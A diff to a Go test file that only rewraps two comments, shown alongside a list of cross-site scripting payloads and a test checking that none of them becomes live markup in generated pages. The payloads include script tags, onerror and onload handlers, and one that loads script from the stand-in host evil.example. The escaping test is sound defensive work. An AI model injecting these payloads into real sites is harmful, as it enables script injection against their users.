@@ -19,8 +19,8 @@ import (
 	"throughline/internal/browsertest"
 )
 
-// payloads are texts that are meant to become something else than text, by class. Each calls alert if it succeeds, or asks
-// evil.example.
+// payloads are texts that are meant to become something else than text, by class. Each calls alert if it succeeds, or
+// asks evil.example.
 func payloads() map[string][]string {
 	return map[string][]string{
 		"tags": {`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
@@ -159,8 +159,8 @@ func fieldsWith(v any, text string) (n int) {
 
 func csvCell(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
 
-// TestHostileTextsStayTexts holds that no payload in any field becomes an element, a handler, a style or an address of another
-// host: every page is parsed as a browser would, every data file as what it is.
+// TestHostileTextsStayTexts holds that no payload in any field becomes an element, a handler, a style or an address
+// of another host: every page is parsed as a browser would, every data file as what it is.
 func TestHostileTextsStayTexts(t *testing.T) {
 	t.Parallel()
 	site, tried := hostileSite(t)
